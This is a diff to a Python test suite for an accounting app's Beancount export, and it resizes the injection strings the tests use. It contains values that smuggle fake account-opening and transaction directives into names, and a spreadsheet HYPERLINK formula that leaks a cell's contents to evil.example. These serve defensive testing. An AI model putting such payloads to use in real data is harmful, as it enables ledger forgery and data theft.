@@ -36,9 +36,10 @@ from app.extensions import db
 from app.models import (BudgetItem, Community, Expense, JournalEntry, Member, Period, Posting)
 from tests.conftest import PASSWORD, Api, login, signup
 
-INJECTION = ('Evil "boss" \\ ; x\n2026-01-01 open Assets:Hacked RUB\n'
-             '2026-01-02 * "Fake" "money"\n  Assets:Hacked  1000.00 RUB\n'
-             '  Assets:Fund  -1000.00 RUB\r\n\t; end\x0b')
+# Short enough for the columns (a category holds 80 characters, a name 120).
+OPEN_INJECTION = 'E "b" \\ ;\n2026-01-01 open Assets:Hacked\r\n\t\x0b'
+TX_INJECTION = 'Evil\n2026-01-02 * "Fake"\n Assets:Hacked 1 X\n Assets:Fund -1 X'
+INJECTION = OPEN_INJECTION + "\n" + TX_INJECTION
 CJK_NAME = '山田 "Taro" \\ ;'
 FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
@@ -120,14 +121,14 @@ def poison(scoped, ledger):
     the community's and the period's names, and the journal's accounts and memos."""
     with scoped(ledger.id):
         db.session.get(Member, ledger.evil).name = INJECTION
-        db.session.get(Community, ledger.id).name = "СНТ Ромашка\n" + INJECTION
-        db.session.get(Period, ledger.q1).name = "Квартал 1\n" + INJECTION
+        db.session.get(Community, ledger.id).name = "СНТ Ромашка\n" + OPEN_INJECTION
+        db.session.get(Period, ledger.q1).name = "Квартал 1\n" + OPEN_INJECTION
         for model, column in ((BudgetItem, "payment_type"), (Expense, "payment_type"),
                               (Posting, "account"), (JournalEntry, "memo")):
             for row in db.session.execute(select(model)).scalars():
                 value = getattr(row, column)
                 if value and "Placeholder type" in value:
-                    setattr(row, column, value.replace("Placeholder type", INJECTION))
+                    setattr(row, column, value.replace("Placeholder type", TX_INJECTION))
         db.session.commit()
 
 
@@ -174,9 +175,9 @@ def test_injected_names_add_no_directive_and_the_export_passes_bean_check(ledger
     assert opens[f"Liabilities:Members:M{ledger.evil}"].meta["name"] == one_line(INJECTION)
     assert opens[f"Liabilities:Members:M{ledger.cjk}"].meta["name"] == CJK_NAME
     assert opens[f"Liabilities:Members:M{ledger.admin}"].meta["name"] == "Иван Петров"
-    assert opens[f"Expenses:{evil_component}"].meta["name"] == one_line(INJECTION)
+    assert opens[f"Expenses:{evil_component}"].meta["name"] == one_line(TX_INJECTION)
     assert opens["Expenses:X-警備"].meta["name"] == "警備"
-    assert options["title"] == one_line("СНТ Ромашка\n" + INJECTION)
+    assert options["title"] == one_line("СНТ Ромашка\n" + OPEN_INJECTION)
 
     # Exactly the journal's entries: no fake transaction, no lost one.
     with scoped(ledger.id):
@@ -184,7 +185,7 @@ def test_injected_names_add_no_directive_and_the_export_passes_bean_check(ledger
                   .scalars()}
     transactions = [e for e in entries if isinstance(e, data.Transaction)]
     assert sorted(t.narration for t in transactions) == sorted(posted.values())
-    assert not any("Fake" == t.payee or "money" == t.narration for t in transactions)
+    assert not any("Fake" in (t.payee, t.narration) for t in transactions)
     assert all(a in opens for t in transactions for a in _accounts(t))
 
     # The closed period's balance assertions hold for every member (the loader checks them).
